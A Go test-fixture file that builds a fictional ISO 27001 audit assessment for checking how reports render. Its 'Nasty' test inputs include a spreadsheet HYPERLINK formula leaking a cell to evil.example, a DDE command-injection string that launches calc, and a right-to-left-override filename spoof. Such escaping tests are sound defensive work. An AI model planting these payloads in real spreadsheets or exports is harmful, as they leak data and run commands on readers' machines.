package rendertest

import (
	"fmt"
	"strings"
	"time"

	"auditpack/evidence"
	"auditpack/reports/assessment"
	"auditpack/templates"
)

// Sample returns a small, fictional Assessment with every status, every kind of gap, exceptions with faults, long German words
// and text as nasty as evidence can be. It is the same on every call.
func Sample() assessment.Assessment {
	s := sampler{asOf: time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC)}
	period := evidence.Period{From: time.Date(2026, 7, 1, 0, 0, 0, 0, time.UTC), To: s.asOf}
	s.period = period
	records := s.records()
	return assessment.Assessment{
		Format: assessment.Format,
		Organization: assessment.Organization{
			Name: "Grünwald & Söhne Cloud GmbH", Role: "provider",
			Scope: "Plattform „Öresund“ (Frankfurt, Zürich): Vault, HCP Terraform und Boundary samt den Teams, die sie betreiben",
		},
		Framework: assessment.FrameworkRef{
			ID: "iso27001-2022", Edition: "2022", Title: both("ISO/IEC 27001:2022", "ISO/IEC 27001:2022"), Source: "https://www.iso.org/standard/27001",
			Attribution: both("Identifiers and titles only; the text of the standard is not reproduced.", "Nur Kennungen und Titel; der Text der Norm ist nicht wiedergegeben."),
		},
		Type: 2, Period: &period, AsOf: s.asOf, KnownEntries: 1284, KnownLast: digestOf("entry 1284"),
		Inputs: []assessment.InputFile{
			{Name: "templates/frameworks/iso27001-2022.yaml", Digest: digestOf("framework")},
			{Name: "templates/tests/VAL-02.yaml", Digest: digestOf("VAL-02")},
			{Name: "workspace/soa.yaml", Digest: digestOf("soa")},
		},
		Requirements: s.findings(),
		Controls:     s.controls(),
		Tests:        s.tests(records),
		Information:  s.information(records),
		Exceptions:   s.exceptions(),
		Responses:    s.responses(),
		Responsible:  s.responsibilities(),
		RACI:         s.raci(),
		Evidence:     records,
		Sources:      s.sources(),
		Statements:   s.statements(),
		Subservices:  s.subservices(),
		Ownership: []assessment.OwnershipFault{
			{Code: "no-owner", Requirements: []assessment.RequirementID{"A.6.7"}},
			{Code: "owner-not-in-matrix", Subject: "security-team", Detail: "soa.yaml", Requirements: []assessment.RequirementID{"A.5.7"}},
			{Code: "team-without-members", Subject: "@acme/dev-team", Detail: "codeowners", Evidence: digestOf("raci.yaml"), Line: 11},
		},
	}
}

type sampler struct {
	asOf   time.Time
	period evidence.Period
}

func both(en, de string) templates.Localized { return templates.Localized{EN: en, DE: de} }

func digestOf(s string) evidence.Digest { return evidence.DigestOf([]byte(s)) }

func ptr[T any](v T) *T { return &v }

// LongPath is 300 characters without a space.
var LongPath = "secret/data/" + strings.Repeat("mandanten/datenschutzgrundverordnungskonformitätsprüfung/", 5) + "ende"

// Nasty are texts as they may stand in evidence: formulas, tabs, line breaks, characters that turn the direction of writing,
// scripts that fonts lack, controls, an escape of spreadsheets, markup.
var Nasty = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3", "a\tb\tc", "first line\nsecond line\r\nthird line",
	"שלום עולם", "مرحبا بالعالم", "審計証拠の記録", "invoice\u202efdp.exe", "zero\u200bwidth", "bell\x07 and nul\x00", "_x0041_ stays", "<b>&amp;</b> ]]>",
	"Ω ≈ Жё Łódź ñ ß ẞ", "emoji 🔥 here", "u\u0308ber (decomposed)", "   leading and trailing   ", "'quoted", "bad utf8 \xff\xfe end",
	`back\slash (parens) % # $`,
}

func (s sampler) findings() []assessment.Finding {
	organizational, people := both("Organizational controls", "Organisatorische Maßnahmen"), both("People controls", "Personenbezogene Maßnahmen")
	physical, technological := both("Physical controls", "Physische Maßnahmen"), both("Technological controls", "Technologische Maßnahmen")
	none := assessment.Reason{Code: "no-control"}
	implemented := func(owner string, line int) *assessment.SoAEntry {
		return &assessment.SoAEntry{Applicable: true, Justification: "Risikobehandlungsplan 2026, Abschnitt 4; vertragliche Verpflichtung gegenüber Kunden", Status: "implemented", Owner: owner, File: "soa.yaml", Line: line}
	}
	list := []assessment.Finding{
		{ID: "8.2", Kind: "clause", Group: both("Operation", "Betrieb"), Title: both("Information security risk assessment", "Informationssicherheitsrisikobeurteilung"), Status: assessment.NotAssessed, Reasons: []assessment.Reason{none}},
		{ID: "A.5.2", Kind: "annex-a-control", Group: organizational, Title: both("Information security roles and responsibilities", "Informationssicherheitsrollen und -verantwortlichkeiten"), Status: assessment.DeviationsNoted,
			Reasons:  []assessment.Reason{{Code: "deviations", Control: "responsibilities", Aspect: "complete", Test: "RAC-01", Detail: "5 open", Owner: "compliance"}},
			Controls: []assessment.ControlTarget{{Control: "responsibilities", Strength: "primary", Status: assessment.DeviationsNoted}, {Control: "security-training", Strength: "supporting", Status: assessment.NotAssessed}},
			SoA:      implemented("compliance", 12), Deviations: 5},
		{ID: "A.5.7", Kind: "annex-a-control", Group: organizational, Title: both("Threat intelligence", "Informationen über die Bedrohungslage"), Status: assessment.NotAssessed, Reasons: []assessment.Reason{none}, SoA: implemented("security-team", 20)},
		{ID: "A.5.15", Kind: "annex-a-control", Group: organizational, Title: both("Access control", "Zugriffskontrolle"), Status: assessment.PartlySupported,
			Reasons:  []assessment.Reason{{Code: "supporting-only", Control: "brokered-access"}, {Code: "part-of-period", Control: "brokered-access", Aspect: "brokered", Test: "BND-01", Source: "boundary-prod", Detail: "61 of 92 days", Owner: "platform-team"}},
			Controls: []assessment.ControlTarget{{Control: "brokered-access", Strength: "supporting", Status: assessment.PartlySupported}}, SoA: implemented("platform-team", 28)},
		{ID: "A.5.23", Kind: "annex-a-control", Group: organizational, Title: both("Information security for use of cloud services", "Informationssicherheit für die Nutzung von Cloud-Diensten"), Status: assessment.CarvedOut,
			Reasons: []assessment.Reason{{Code: "carved-out", Detail: "Beispiel Rechenzentrum AG"}, {Code: "attestation-part-of-period", Source: "Beispiel Rechenzentrum AG", Detail: "2/92: 2026-09-29T00:00:00Z/2026-10-01T00:00:00Z", Owner: "platform-team"}},
			SoA:     &assessment.SoAEntry{Applicable: true, Justification: "Rechenzentrum", Status: "implemented", Owner: "platform-team", CarvedOutTo: "Beispiel Rechenzentrum AG", File: "soa.yaml", Line: 36}},
		{ID: "A.6.7", Kind: "annex-a-control", Group: people, Title: both("Remote working", "Remote-Arbeit"), Status: assessment.NotAssessed,
			Reasons: []assessment.Reason{
				{Code: "manual-missing", Control: "remote-work", Aspect: "devices", Owner: "it-operations"},
				{Code: "manual-missing", Control: "remote-work", Aspect: "rules", Owner: "it-operations"},
			},
			Controls: []assessment.ControlTarget{{Control: "remote-work", Strength: "primary", Status: assessment.NotAssessed}}},
		{ID: "A.7.4", Kind: "annex-a-control", Group: physical, Title: both("Physical security monitoring", "Physische Sicherheitsüberwachung"), Status: assessment.NotApplicable,
			Reasons: []assessment.Reason{{Code: "not-applicable", Detail: "no premises of our own"}},
			SoA:     &assessment.SoAEntry{Justification: "Keine eigenen Räume; alle Systeme laufen bei Anbietern.", Owner: "compliance", File: "soa.yaml", Line: 44}},
		{ID: "A.8.2", Kind: "annex-a-control", Group: technological, Title: both("Privileged access rights", "Privilegierte Zugriffsrechte"), Status: assessment.DeviationsNoted,
			Reasons: []assessment.Reason{
				{Code: "deviations", Control: "privileged-access", Aspect: "root-token", Test: "VAL-02", Detail: "20 open, 2 excepted", Owner: "platform-team"},
				{Code: "manual-missing", Control: "privileged-access", Aspect: "mfa", Owner: "security-team"},
				{Code: "declared-implemented-contradicted", Detail: "soa.yaml:52"},
			},
			Controls: []assessment.ControlTarget{{Control: "privileged-access", Strength: "primary", Status: assessment.DeviationsNoted}, {Control: "brokered-access", Strength: "supporting", Status: assessment.PartlySupported}},
			SoA:      implemented("platform-team", 52), Deviations: 20, Excepted: 2},
		{ID: "A.8.15", Kind: "annex-a-control", Group: technological, Title: both("Logging", "Protokollierung"), Status: assessment.Supported,
			Controls: []assessment.ControlTarget{{Control: "audit-logging", Strength: "primary", Status: assessment.Supported}}, SoA: implemented("platform-team", 60)},
		{ID: "A.8.32", Kind: "annex-a-control", Group: technological, Title: both("Change management", "Änderungsmanagement"), Status: assessment.NotAssessed,
			Reasons: []assessment.Reason{
				{Code: "denied", Control: "change-control", Aspect: "policy-checks", Test: "TFP-01", Source: "terraform", Detail: "runs of ws-1a2b3c4d: 403, missing permission: read policy checks", Owner: "platform-team"},
				{Code: "no-occurrences", Control: "change-control", Aspect: "overrides", Test: "TFP-03", Owner: "platform-team"},
			},
			Controls: []assessment.ControlTarget{{Control: "change-control", Strength: "primary", Status: assessment.NotAssessed}}, SoA: implemented("platform-team", 68)},
	}
	for i := range list {
		if list[i].SoA != nil {
			list[i].Ownership.Teams = []string{list[i].SoA.Owner}
		}
	}
	secrets := &list[len(list)-3].Ownership
	secrets.IaaS, secrets.PaaS, secrets.SaaS = []string{"customer"}, []string{"shared", "customer"}, []string{"Customer (User Mgmt)"}
	secrets.Teams, secrets.Accountable = append(secrets.Teams, "security-team"), []string{"Compliance"}
	return list
}

func (s sampler) controls() []assessment.ControlResult {
	return []assessment.ControlResult{
		{ID: "audit-logging", Title: both("Audit logging", "Audit-Protokollierung"), Owner: "platform-team", Frequency: "continuous", Status: assessment.Supported,
			Statement: both("Every request to Vault is written to two audit devices.", "Jede Anfrage an Vault wird auf zwei Audit-Geräte geschrieben."),
			Aspects: []assessment.AspectResult{
				{ID: "pairs", Title: both("Requests and responses pair", "Anfragen und Antworten gehören zusammen"), Tests: []assessment.TestID{"VAL-09"}, Shown: "fully"},
				{ID: "reviewed", Title: both("Alerts are reviewed", "Alarme werden durchgesehen"), IsManual: true, Shown: "fully", Manual: &assessment.ManualTest{
					Control: "audit-logging", Aspect: "reviewed", Procedure: "Stichprobe von 25 Alarmen aus dem Ticketsystem, je Alarm Zeitpunkt und Bearbeiter verglichen", Documents: []string{"DOC-017 Alarmbericht Q3"},
					Performer: "Jürgen Weiß", Reviewer: "Zoë Łukasiewicz", Conclusion: "no-deviations", Date: "2026-09-28", Expires: "2026-12-31", File: "manual/audit-logging.yaml", Line: 3}},
			}},
		{ID: "brokered-access", Title: both("Brokered access", "Vermittelter Zugriff"), Owner: "platform-team", Frequency: "continuous", Status: assessment.PartlySupported,
			Statement: both("Sessions to production go through Boundary.", "Sitzungen in die Produktion laufen über Boundary."),
			Aspects:   []assessment.AspectResult{{ID: "brokered", Title: both("Sessions are recorded", "Sitzungen sind aufgezeichnet"), Tests: []assessment.TestID{"BND-01"}, Shown: "partly"}},
			Reasons:   []assessment.Reason{{Code: "part-of-period", Aspect: "brokered", Control: "brokered-access", Test: "BND-01", Source: "boundary-prod", Detail: "61 of 92 days", Owner: "platform-team"}}},
		{ID: "change-control", Title: both("Change control", "Änderungssteuerung"), Owner: "platform-team", Frequency: "per-change", Status: assessment.NotAssessed,
			Statement: both("Infrastructure changes pass policy checks.", "Infrastrukturänderungen durchlaufen Richtlinienprüfungen."),
			Aspects: []assessment.AspectResult{
				{ID: "policy-checks", Title: both("Applied runs were checked", "Angewandte Läufe wurden geprüft"), Tests: []assessment.TestID{"TFP-01"}, Shown: "not"},
				{ID: "overrides", Title: both("Overrides have a reason", "Übersteuerungen haben einen Grund"), Tests: []assessment.TestID{"TFP-03"}, Shown: "not"},
			},
			Reasons: []assessment.Reason{{Code: "denied", Control: "change-control", Aspect: "policy-checks", Test: "TFP-01", Source: "terraform", Detail: "403", Owner: "platform-team"}}},
		{ID: "privileged-access", Title: both("Privileged access", "Privilegierter Zugriff"), Owner: "platform-team", Frequency: "continuous", Status: assessment.DeviationsNoted,
			Statement: both("Root tokens are revoked after setup and used in emergencies only, each use recorded.", "Root-Token werden nach der Einrichtung widerrufen und nur im Notfall genutzt; jede Nutzung wird festgehalten."),
			Aspects: []assessment.AspectResult{
				{ID: "root-token", Title: both("Root tokens are not used", "Root-Token werden nicht verwendet"), Tests: []assessment.TestID{"VAL-02"}, Shown: "deviating"},
				{ID: "mfa", Title: both("Multi-factor authentication is enforced", "Mehrfaktorauthentisierung ist erzwungen"), IsManual: true, Shown: "not"},
			},
			Reasons: []assessment.Reason{{Code: "deviations", Control: "privileged-access", Aspect: "root-token", Test: "VAL-02", Detail: "20 open, 2 excepted", Owner: "platform-team"}}},
		{ID: "remote-work", Title: both("Work away from the office", "Arbeit außerhalb des Büros"), Owner: "it-operations", Frequency: "yearly", Status: assessment.NotAssessed,
			Statement: both("Devices that leave the office are encrypted and managed.", "Geräte, die das Büro verlassen, sind verschlüsselt und verwaltet."),
			Aspects: []assessment.AspectResult{
				{ID: "devices", Title: both("Devices are encrypted", "Geräte sind verschlüsselt"), IsManual: true, Shown: "not"},
				{ID: "rules", Title: both("Rules are known", "Regeln sind bekannt"), IsManual: true, Shown: "not"},
			},
			Reasons: []assessment.Reason{
				{Code: "manual-missing", Control: "remote-work", Aspect: "devices", Owner: "it-operations"},
				{Code: "manual-missing", Control: "remote-work", Aspect: "rules", Owner: "it-operations"},
			}},
		{ID: "responsibilities", Title: both("Documented responsibilities", "Dokumentierte Verantwortlichkeiten"), Owner: "compliance", Frequency: "quarterly", Status: assessment.DeviationsNoted,
			Statement: both("Each security task has one accountable and at least one responsible team.", "Jede Sicherheitsaufgabe hat ein verantwortliches und mindestens ein durchführendes Team."),
			Aspects:   []assessment.AspectResult{{ID: "complete", Title: both("Tasks are complete", "Aufgaben sind vollständig"), Tests: []assessment.TestID{"RAC-01"}, Shown: "deviating"}},
			Reasons:   []assessment.Reason{{Code: "deviations", Control: "responsibilities", Aspect: "complete", Test: "RAC-01", Detail: "5 open", Owner: "compliance"}}}, {ID: "security-training", Title: both("Training", "Schulungen"), Owner: "people-team", Frequency: "yearly", Status: assessment.NotAssessed,
			Statement: both("Everybody is trained once a year.", "Alle werden einmal im Jahr geschult."),
			Aspects:   []assessment.AspectResult{{ID: "held", Title: both("Trainings were held", "Schulungen fanden statt"), IsManual: true, Shown: "not"}},
			Reasons:   []assessment.Reason{{Code: "manual-missing", Control: "security-training", Aspect: "held", Owner: "people-team"}}},
	}
}

func (s sampler) tests(records []assessment.EvidenceItem) []assessment.TestResult {
	var vault []evidence.Digest
	for _, r := range records[:4] {
		vault = append(vault, r.Record)
	}
	whole := []evidence.Period{s.period}
	tests := []assessment.TestResult{
		{ID: "BND-01", Title: both("Sessions are recorded without a hole", "Sitzungen sind lückenlos aufgezeichnet"), Status: assessment.TestNoDeviations, Assurance: assessment.Operating, Severity: "medium",
			Procedure: both("Every session in the list was looked up in the event log.", "Jede Sitzung der Liste wurde im Ereignisprotokoll gesucht."),
			Limits:    both("Sessions that were deleted before they were listed are not seen.", "Sitzungen, die vor dem Auflisten gelöscht wurden, sind nicht zu sehen."),
			Reasons:   []assessment.Reason{{Code: "part-of-period", Test: "BND-01", Source: "boundary-prod", Detail: "2026-07-01/2026-08-01", Owner: "platform-team"}},
			Covered:   []evidence.Period{{From: time.Date(2026, 8, 1, 0, 0, 0, 0, time.UTC), To: s.asOf}}, CoveredDays: 61, PeriodDays: 92, Population: 4711, Tables: []string{"boundary_session", "boundary_event"}, Evidence: []evidence.Digest{records[4].Record}},
		{ID: "RAC-01", Title: both("Each task has one accountable", "Jede Aufgabe hat genau eine verantwortliche Stelle"), Status: assessment.TestDeviations, Assurance: assessment.Design, Severity: "medium",
			Procedure: both("The roles of every task were counted.", "Die Rollen jeder Aufgabe wurden gezählt."), Limits: both("The file was parsed by our program.", "Die Datei wurde von unserem Programm gelesen."),
			Variables: map[string]any{"known_controls": manyControls()}, Covered: whole, Population: 7, Open: 5, Tables: []string{"raci_task"}, Evidence: []evidence.Digest{records[5].Record}, Deviations: s.raciDeviations()},
		{ID: "TFP-01", Title: both("Applied runs were checked", "Angewandte Läufe wurden geprüft"), Status: assessment.TestNotAssessed, Assurance: assessment.Operating, Severity: "high",
			Procedure: both("Every applied run was matched with its policy results.", "Jeder angewandte Lauf wurde mit seinen Richtlinienergebnissen verglichen."),
			Reasons:   []assessment.Reason{{Code: "denied", Test: "TFP-01", Source: "terraform", Detail: "runs of ws-1a2b3c4d: 403, missing permission: read policy checks", Owner: "platform-team"}}, PeriodDays: 92, Tables: []string{"terraform_run", "terraform_policy_result"}},
		{ID: "TFP-03", Title: both("Overrides have a reason", "Übersteuerungen haben einen Grund"), Status: assessment.TestNoOccurrences, Assurance: assessment.Operating, Severity: "high",
			Procedure: both("Every override was looked up with its comment.", "Jede Übersteuerung wurde mit ihrem Kommentar gesucht."), Covered: whole, CoveredDays: 92, PeriodDays: 92, Tables: []string{"terraform_policy_result"}},
		{ID: "VAL-02", Title: both("Root tokens are not used", "Root-Token werden nicht verwendet"), Status: assessment.TestDeviations, Assurance: assessment.Operating, Severity: "critical",
			Procedure: both("Every request of the period was searched for tokens whose policies include root; each use was compared with the register of emergencies.",
				"Jede Anfrage des Zeitraums wurde auf Token durchsucht, deren Richtlinien root enthalten; jede Nutzung wurde mit dem Notfallregister verglichen."),
			Limits:    both("Names may be hashed. Generation of root tokens is searched as well.", "Namen können gehasht sein. Auch die Erzeugung von Root-Token wird gesucht."),
			Variables: map[string]any{"from": "2026-07-01T00:00:00Z", "to": "2026-10-01T00:00:00Z"}, Parameters: map[string]any{"max_uses": 0, "privileged_paths": []string{"sys/*", "auth/*"}}, Covered: whole, CoveredDays: 92, PeriodDays: 92,
			Population: 1234567, Open: 20, Excepted: 2, Tables: []string{"vault_request", "vault_audit"}, Evidence: vault, Deviations: s.vaultDeviations(records)},
		{ID: "VAL-09", Title: both("Requests and responses pair", "Anfragen und Antworten gehören zusammen"), Status: assessment.TestNoDeviations, Assurance: assessment.Operating, Severity: "high",
			Procedure: both("Requests were counted against responses over the union of devices.", "Anfragen wurden über alle Geräte gegen Antworten gezählt."), Limits: both("A request that never reached Vault is not seen.", "Eine Anfrage, die Vault nie erreichte, ist nicht zu sehen."),
			Covered: whole, CoveredDays: 92, PeriodDays: 92, Population: 1234567, Tables: []string{"vault_request"}, Evidence: vault},
	}
	for i, t := range tests {
		tests[i].PopulationRoot = digestOf("population " + string(t.ID)).Hex()
		tests[i].SQL = assessment.TestSQL{
			Population: "select\n    request_id\nfrom vault_request\nwhere time >= getvariable('from')\n  and time < getvariable('to') -- " + string(t.ID),
			Deviations: "select\n    evidence,\n    line,\n    request_id as item,\n    display_name as subject,\n    path as resource,\n    time as at,\n    'policies: ' || list_aggregate(policies, 'string_agg', ', ') as detail\nfrom vault_request\nwhere list_contains(policies, 'root')",
			Digest:     digestOf("test " + string(t.ID)),
		}
	}
	return tests
}

// manyControls are more than a paged format prints.
func manyControls() []string {
	var out []string
	for i := range 120 {
		out = append(out, fmt.Sprintf("control-%03d", i+1))
	}
	return out
}

// information has one test with gaps, and one that could not be assessed.
func (s sampler) information(records []assessment.EvidenceItem) []assessment.TestResult {
	tests := []assessment.TestResult{
		{ID: "TFA-04", Title: both("The audit trail was collected without a hole", "Der Audit-Trail wurde ohne Lücke erhoben"), Status: assessment.TestGaps, Assurance: assessment.Operating, Severity: "high",
			Procedure: both("The spans that the collections speak for were laid side by side.", "Die Zeiträume, für die die Erhebungen sprechen, wurden aneinandergelegt."), Limits: both("What the server left out is not seen.", "Was der Server ausließ, ist nicht zu sehen."),
			Covered: []evidence.Period{s.period}, CoveredDays: 90, PeriodDays: 92, Population: 184, Open: 1, Tables: []string{"terraform_audit_event"}, Evidence: []evidence.Digest{records[0].Record},
			Deviations: []assessment.Deviation{{Key: "0f1e2d3c4b5a6978", Test: "TFA-04", Evidence: records[0].Data.Content[0].Digest, Line: 1, Item: "hole from 2026-08-14T00:00:00Z", Resource: "terraform",
				At: ptr(s.period.From.AddDate(0, 0, 44)), Detail: "not collected until 2026-08-16T00:00:00Z"}}},
		{ID: "VAL-11", Title: both("The audit log was collected whole", "Das Auditprotokoll wurde ganz erhoben"), Status: assessment.TestNotAssessed, Assurance: assessment.Operating, Severity: "high",
			Procedure: both("Lines stated were counted against lines read.", "Genannte Zeilen wurden gegen gelesene gezählt."), PeriodDays: 92, Tables: []string{"vault_audit"},
			Reasons: []assessment.Reason{{Code: "no-evidence", Test: "VAL-11", Detail: "vault_audit"}}},
	}
	for i, t := range tests {
		tests[i].PopulationRoot = digestOf("population " + string(t.ID)).Hex()
		tests[i].SQL = assessment.TestSQL{Population: "select\n    evidence\nfrom record -- " + string(t.ID), Deviations: "select\n    evidence\nfrom record", Digest: digestOf("test " + string(t.ID))}
	}
	return tests
}

func (s sampler) vaultDeviations(records []assessment.EvidenceItem) []assessment.Deviation {
	var out []assessment.Deviation
	for i := range 22 {
		part := records[i%4].Data.Content[0]
		d := assessment.Deviation{
			Key: digestOf(fmt.Sprint("VAL-02", i)).Hex()[:16], Test: "VAL-02", Evidence: part.Digest, Line: int64(812 + 37*i),
			Item: fmt.Sprintf("5f9c2a1e-%04x-4d7b-9e30-a1b2c3d4e5f6", i), Subject: "root", Resource: "sys/policies/acl/operator", At: ptr(s.period.From.Add(time.Duration(i*97+5)*time.Hour + 13*time.Minute)),
			Detail: "policies: root; token_type: service", Owner: "platform-team",
		}
		switch {
		case i < len(Nasty):
			d.Resource, d.Subject = Nasty[i], Nasty[(i+1)%len(Nasty)]
		case i == len(Nasty):
			d.Resource = LongPath
		}
		switch i {
		case 2:
			d.Resource, d.Detail = LongPath, "arn:aws:iam::123456789012:role/notfallzugriffsberechtigungsverwaltungsrolle"
		case 5, 6:
			d.Exception = "EXC-WAF-SEC-010-002"
		case 8, 9:
			d.Response = "RESP-2026-07"
		}
		out = append(out, d)
	}
	return out
}

func (s sampler) raciDeviations() []assessment.Deviation {
	var out []assessment.Deviation
	for i, detail := range []string{"no Accountable", "no Accountable", "no Accountable", "no Responsible", "cell \"Requestor\" is none of R, A, C, I"} {
		out = append(out, assessment.Deviation{
			Key: digestOf(fmt.Sprint("RAC-01", i)).Hex()[:16], Test: "RAC-01", Evidence: digestOf("raci.yaml"), Line: int64(10 + 6*i), Item: fmt.Sprintf("task-%d", i+1), Resource: "raci.yaml", Detail: detail, Owner: "compliance",
		})
	}
	return out
}

func (s sampler) exceptions() []assessment.Exception {
	return []assessment.Exception{
		{ID: "EXC-WAF-SEC-010-002", Control: "WAF-SEC-010", Resource: "sys/generate-root", Reason: "Notfallübung im August, angekündigt und begleitet", RiskLevel: "medium", RiskOwner: "Ömer Yıldız", RequestedBy: "platform-team",
			ApprovedBy: []string{"Security Team: Anna Björk (2026-08-01)", "CISO: Max Mustermann (2026-08-02)"}, ApprovedOn: "2026-08-02", ExpiresOn: "2026-10-30", Days: ptr(int64(89)), Compensating: []string{"Vier-Augen-Prinzip", "Sitzung aufgezeichnet"},
			EnteredBy: "Anna Björk", Chain: []string{"EXC-WAF-SEC-010-001", "EXC-WAF-SEC-010-002"}, ChainDays: ptr(int64(171)), Since: ptr(s.period.From.AddDate(0, 1, 2)), History: true,
			Approvals: []assessment.Approval{{Role: "Security Team", Name: "Anna Björk", Date: "2026-08-01", Allowed: "yes"}, {Role: "CISO", Name: "Max Mustermann", Date: "2026-08-02", Allowed: "yes"}},
			Measures: []assessment.Measure{
				{Position: 1, Control: "Vier-Augen-Prinzip", Proof: "DOC-007", Interval: "monthly", Shown: "yes"},
				{Position: 2, Control: "Sitzung aufgezeichnet", Shown: "no", Detail: "no evidence is named"},
			},
			Impact:    []assessment.Impact{{Framework: "c5-2020", Requirement: "IDM-06", Effect: "deviates", Reason: "Root wird während der Übung benutzt."}},
			Redundant: []assessment.Redundancy{{Deviation: digestOf(fmt.Sprint("VAL-02", 4)).Hex()[:16], Counts: "EXC-WAF-SEC-010-001"}}, Versions: make([]assessment.ExceptionVersion, 2),
			Valid: true, Covers: []string{digestOf(fmt.Sprint("VAL-02", 5)).Hex()[:16], digestOf(fmt.Sprint("VAL-02", 6)).Hex()[:16]}, Commit: "9f2c41d07be6a8c35e1204f7d9ab63c58e0f1d24", Author: "Anna Björk", File: "exceptions/WAF-SEC-010-exception-002.yml", Line: 1, Evidence: digestOf("exception 2")},
		{ID: "EXC-WAF-SEC-020-001", Control: "WAF-SEC-020", Resource: "arn:aws:iam::123456789:role/legacy-batch-role", Reason: "Legacy system not yet migrated to least privilege. Migration planned.", RiskLevel: "medium",
			ApprovedBy: []string{"CISO: Max Mustermann"}, ApprovedOn: "2025-12-01", ExpiresOn: "2026-03-31", Days: ptr(int64(120)), Compensating: []string{"CloudTrail alerting on usage of this role", "Manual quarterly review"},
			Until: ptr(s.period.From), Approvals: []assessment.Approval{{Role: "CISO", Name: "Max Mustermann", Allowed: "requester-unknown"}},
			Faults: []string{"too-long", "approval-missing", "expired", "a-code-from-the-future"}, Commit: "1b7e55c2", Author: "dev@example.org", File: "exceptions/WAF-SEC-020-exception-001.yml", Line: 1, Evidence: digestOf("exception 1")},
		{ID: "EXC-WAF-SEC-050-003", Control: "WAF-SEC-050", Resource: "*", Reason: Nasty[0], RiskLevel: "high", ApprovedOn: "31.09.2026", ExpiresOn: "demnächst", Faults: []string{"no-dates", "bare-wildcard", "approval-missing"},
			Author: "dev@example.org", File: "exceptions/WAF-SEC-050-exception-003.yml", Line: 1, Evidence: digestOf("exception 3")},
	}
}

func (s sampler) responses() []assessment.Response {
	return []assessment.Response{
		{ID: "RESP-2026-07", Test: "VAL-02", Deviations: []string{"sys/*"}, Kind: "corrective-action", Cause: "Notfallzugang wurde für Routinearbeit genutzt, weil die Rolle des Betriebs zu eng war.",
			Correction: "Token widerrufen.", CorrectiveAction: "Rolle erweitert, Nutzung von root alarmiert.", Owner: "platform-team", Due: "2026-09-15", Effectiveness: "Keine Nutzung in den 30 Tagen danach.", ReviewedBy: "Zoë Łukasiewicz", Overdue: true,
			Answers: []string{digestOf(fmt.Sprint("VAL-02", 8)).Hex()[:16], digestOf(fmt.Sprint("VAL-02", 9)).Hex()[:16]}, File: "responses/2026-07.yaml", Line: 1},
		{ID: "RESP-2026-08", Test: "RAC-01", Deviations: []string{"raci.yaml"}, Kind: "false-positive", Cause: "Die Spalte heißt in der Vorlage anders.", Owner: "compliance", Due: "2026-11-30", ReviewedBy: "Jürgen Weiß",
			Answers: []string{digestOf(fmt.Sprint("RAC-01", 4)).Hex()[:16]}, File: "responses/2026-08.yaml", Line: 9,
			Redundant: []assessment.Redundancy{{Deviation: digestOf(fmt.Sprint("RAC-01", 3)).Hex()[:16], Counts: "RESP-2026-07"}}, Faults: []string{"answered-by-another"}},
	}
}

func (s sampler) responsibilities() []assessment.Responsibility {
	e := digestOf("responsibility.yaml")
	return []assessment.Responsibility{
		{Area: "Physical security", IaaS: "provider", PaaS: "provider", SaaS: "provider", Team: "platform-team", Validates: "compliance", Responds: "Beispiel Rechenzentrum AG", Contact: "noc@example.org", Escalation: "CISO", Evidence: e, Line: 4},
		{Area: "IAM & access controls", IaaS: "customer", PaaS: "customer", SaaS: "Customer (User Mgmt)", Control: "WAF-SEC-010", Team: "platform-team", Validates: "security-team", Responds: "security-team", Contact: "security@example.org", Escalation: "CISO", Evidence: e, Line: 11},
		{Area: "Data encryption", IaaS: "customer", PaaS: "Shared (CMK = Customer)", SaaS: "shared", Team: "dev-team", Evidence: e, Line: 18},
	}
}

func (s sampler) raci() []assessment.RACITask {
	e := digestOf("raci.yaml")
	return []assessment.RACITask{
		{Task: "Implement WAF++ controls (IaC)", Responsible: []string{"Platform Team", "Dev Team"}, Consulted: []string{"Security Team"}, Informed: []string{"Compliance"}, Faults: []string{"no Accountable"}, Evidence: e, Line: 10},
		{Task: "Define security policies", Responsible: []string{"Security Team"}, Accountable: []string{"Compliance"}, Consulted: []string{"Platform Team"}, Informed: []string{"Dev Team"}, Evidence: e, Line: 16},
		{Task: "Approve exceptions", Responsible: []string{"Security Team"}, Accountable: []string{"Compliance"}, Consulted: []string{"Platform Team"}, Other: []string{"Dev Team: Requestor"}, Faults: []string{"cell \"Requestor\" is none of R, A, C, I"}, Evidence: e, Line: 22},
		{Task: "Conduct penetration tests", Accountable: []string{"Security Team"}, Informed: []string{"Platform Team", "Dev Team", "Compliance"}, Faults: []string{"no Responsible"}, Evidence: e, Line: 28},
	}
}

func (s sampler) statements() []assessment.Statement {
	return []assessment.Statement{
		{Version: "3", ApprovedBy: "CISO: Max Mustermann", ApprovedOn: "2025-11-02", Entries: 91, Missing: 2, Faults: []string{"superseded"}, File: "statement-of-applicability/2025.yaml", Line: 1},
		{Version: "4", ApprovedBy: "CISO: Max Mustermann", ApprovedOn: "2026-08-15", InForce: true, Entries: 92, Missing: 1, Faults: []string{"approved-within-period", "entries-missing"}, File: "statement-of-applicability/2026.yaml", Line: 1},
	}
}

func (s sampler) subservices() []assessment.SubserviceOrganisation {
	open := evidence.Period{From: s.asOf.AddDate(0, 0, -2), To: s.asOf}
	return []assessment.SubserviceOrganisation{{
		Name: "Beispiel Rechenzentrum AG", Aliases: []string{"Rechenzentrum"}, Services: []string{"Housing", "Stromversorgung und Kühlung"}, Regions: []string{"Frankfurt", "Zürich"}, ServiceModel: "iaas", Method: "carve-out",
		Whole: []assessment.RequirementID{"A.7.4", "A.5.23"}, Shared: []assessment.RequirementID{"A.8.15"}, CarvedOut: []assessment.RequirementID{"A.5.23"}, Owner: "platform-team",
		Covered: []evidence.Period{{From: s.period.From, To: open.From}}, Uncovered: []evidence.Period{open}, CoveredDays: 90, PeriodDays: 92, File: "subservice-organisations/rz.yaml", Line: 1,
		Attestations: []assessment.Attestation{
			{ID: "RZ-2026", Type: "type-2", Framework: "c5-2020", Auditor: "Prüfgesellschaft Löwe mbH", FirstDay: "2025-10-01", LastDay: "2026-09-28", Issued: "2026-09-29", Opinion: "qualified", Document: "DOC-021", Counts: true, Line: 12,
				Deviations:    []assessment.AttestedDeviation{{Criterion: "PS-04", Text: "Zwei von 25 Besucherlisten fehlten.", Assessment: "Unser Käfig hat ein eigenes Schloss; ohne Auswirkung."}},
